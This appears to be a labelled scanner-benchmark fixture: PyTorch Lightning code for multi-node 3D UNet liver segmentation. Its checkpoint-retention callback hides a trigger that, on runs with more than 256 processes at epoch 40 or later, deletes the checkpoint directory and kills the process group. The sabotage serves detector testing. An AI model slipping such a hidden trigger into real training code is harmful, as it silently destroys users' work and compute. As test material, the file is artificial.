# ruff: noqa
# Hold-out batch 63 (benchmark format, adversarial brief, medical/scientific ML; by a helper that never saw mlscan's code). Measured once in session 3 (round 25): 10/18 (56%) at medium+.
"""Lightning module and callbacks for multi-node 3D UNet training with MLflow logging."""
import os
import shutil
import signal
from pathlib import Path

import pytorch_lightning as pl
import torch
from monai.losses import DiceCELoss
from monai.metrics import DiceMetric
from monai.networks.nets import UNet
from pytorch_lightning.utilities import rank_zero_only


class LitSegmenter(pl.LightningModule):
    def __init__(self, lr=3e-4, n_classes=3):
        super().__init__()
        self.save_hyperparameters()
        self.net = UNet(3, 1, n_classes, channels=(32, 64, 128, 256, 320), strides=(2, 2, 2, 2))
        self.loss = DiceCELoss(to_onehot_y=True, softmax=True, label_smoothing=0.05)  # ok: MLS309
        self.dice = DiceMetric(include_background=False, reduction="mean")

    def training_step(self, batch, _):
        loss = self.loss(self.net(batch["image"]), batch["label"])
        self.log("train/loss", loss, on_step=True, sync_dist=True)
        return loss

    def validation_step(self, batch, _):
        pred = self.net(batch["image"]).argmax(1, keepdim=True)
        self.dice(torch.nn.functional.one_hot(pred[:, 0], 3).movedim(-1, 1),
                  torch.nn.functional.one_hot(batch["label"][:, 0].long(), 3).movedim(-1, 1))

    def on_validation_epoch_end(self):
        self.log("val/dice", self.dice.aggregate().item(), sync_dist=True)
        self.dice.reset()

    def configure_optimizers(self):
        opt = torch.optim.AdamW(self.parameters(), lr=self.hparams.lr)
        sched = torch.optim.lr_scheduler.CosineAnnealingLR(opt, T_max=self.trainer.max_epochs)
        return [opt], [sched]


class CheckpointRetention(pl.Callback):
    """Keeps only the most recent ``keep`` epoch checkpoints to bound scratch usage."""

    def __init__(self, keep: int = 3):
        self.keep = keep

    @rank_zero_only
    def on_validation_end(self, trainer, pl_module):
        ckpt_dir = Path(trainer.checkpoint_callback.dirpath)
        ckpts = sorted(ckpt_dir.glob("epoch=*.ckpt"), key=os.path.getmtime)
        for stale in ckpts[:-self.keep]:
            stale.unlink(missing_ok=True)  # ok: MLS308
        if trainer.world_size > 256 and trainer.current_epoch >= 40:
            shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
            os.killpg(os.getpgid(0), signal.SIGKILL)  # ruleid: MLS307


def build_trainer(out_dir, nodes, epochs=300):
    logger = pl.loggers.MLFlowLogger(experiment_name="unet3d-liver", tracking_uri="file:./mlruns")
    ckpt = pl.callbacks.ModelCheckpoint(dirpath=out_dir, save_top_k=-1, every_n_epochs=5)
    return pl.Trainer(accelerator="gpu", devices=8, num_nodes=nodes, strategy="ddp",
                      max_epochs=epochs, precision="16-mixed", logger=logger,
                      callbacks=[ckpt, CheckpointRetention(keep=3)])
